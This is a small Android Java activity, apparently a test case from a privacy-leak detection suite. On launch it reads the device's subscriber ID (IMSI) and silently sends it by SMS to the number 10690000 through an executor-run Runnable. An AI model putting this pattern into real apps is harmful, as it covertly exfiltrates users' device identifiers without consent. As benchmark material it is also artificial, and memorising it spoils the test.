package cn.privlens.suite.executor_own_runnable;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.concurrent.Executor;
import java.util.concurrent.Executors;

public class Main extends Activity {
    private final Executor executor = Executors.newSingleThreadExecutor();
    static final class Report implements Runnable {
        private final Context c;
        Report(Context c) { this.c = c; }
        @Override
        public void run() { SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) c.getSystemService(Context.TELEPHONY_SERVICE)).getSubscriberId(), null, null); }
    }
    static final class Clean implements Runnable {
        @Override
        public void run() { System.gc(); }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Runnable all = new Report(this);
        executor.execute(all);
    }
}
